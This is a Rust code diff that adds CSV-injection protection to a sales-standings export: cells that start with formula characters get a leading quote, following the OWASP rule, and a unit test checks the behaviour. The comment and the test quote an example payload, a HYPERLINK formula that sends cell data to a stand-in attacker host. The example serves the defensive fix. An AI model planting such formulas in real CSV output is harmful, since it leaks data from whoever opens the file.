@@ -183,18 +183,30 @@ pub const CSV_HEADER: [&str; 27] = [
     "as_of",
 ];
 
-/// [`StandingRow`] flattened for CSV (lists joined with ';').
+/// A text cell for a CSV file that someone will open in a spreadsheet: a value that
+/// starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be read as a
+/// formula (`=HYPERLINK("http://evil.example/?x="&A1,"Click")` in a roster name runs
+/// in the reader's Excel), so it gets a leading `'`, the OWASP rule for CSV injection;
+/// anything else is unchanged. For text that came from input (names, teams, e-mail
+/// addresses, rep ids), never for the numbers quotad writes (`-125000` stays a number).
+/// JSON output is never changed.
+pub fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}").into() } else { s.into() }
+}
+
+/// [`StandingRow`] flattened for CSV (lists joined with ';'); text from input through
+/// [`csv_text`].
 #[derive(Serialize)]
 struct CsvRow<'a> {
     period: &'a str,
     board: &'a str,
-    scope: &'a str,
+    scope: std::borrow::Cow<'a, str>,
     rank: Option<u32>,
     movement: Option<i32>,
-    rep_id: Option<&'a str>,
-    name: &'a str,
-    email: Option<&'a str>,
-    team: &'a str,
+    rep_id: Option<std::borrow::Cow<'a, str>>,
+    name: std::borrow::Cow<'a, str>,
+    email: Option<std::borrow::Cow<'a, str>>,
+    team: std::borrow::Cow<'a, str>,
     active: bool,
     revenue: Decimal,
     units: Decimal,
@@ -220,13 +232,13 @@ impl<'a> From<&'a StandingRow> for CsvRow<'a> {
         CsvRow {
             period: &r.period,
             board: r.board,
-            scope: &r.scope,
+            scope: csv_text(&r.scope),
             rank: r.rank,
             movement: r.movement,
-            rep_id: r.rep_id.as_deref(),
-            name: &r.name,
-            email: r.email.as_deref(),
-            team: &r.team,
+            rep_id: r.rep_id.as_deref().map(csv_text),
+            name: csv_text(&r.name),
+            email: r.email.as_deref().map(csv_text),
+            team: csv_text(&r.team),
             active: r.active,
             revenue: r.revenue,
             units: r.units,
@@ -371,4 +383,26 @@ pub fn to_table(rows: &[StandingRow], board: BoardKind, fmt: &Format, title: &st
 fn format_pace(fmt: &Format, st: &Standards, p: Decimal) -> String {
     let s = fmt.judged(st, Judged::Pace, p);
     s.replace(".0%", "%")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_text;
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_get_a_leading_quote_and_nothing_else_changes() {
+        assert_eq!(
+            csv_text("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
+            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
+        );
+        assert_eq!(csv_text("@SUM(A1:A9)"), "'@SUM(A1:A9)");
+        assert_eq!(csv_text("+North"), "'+North");
+        assert_eq!(csv_text("-Cy Cole"), "'-Cy Cole");
+        assert_eq!(csv_text("\t=1+1"), "'\t=1+1");
+        assert_eq!(csv_text("\r=1+1"), "'\r=1+1");
+        // Elsewhere in the cell is harmless; ordinary text is untouched.
+        for s in ["José Núñez", "Ann = Bob", "ann+tag@example.com", "R-1", "", "'quoted"] {
+            assert_eq!(csv_text(s), s);
+        }
+    }
 }
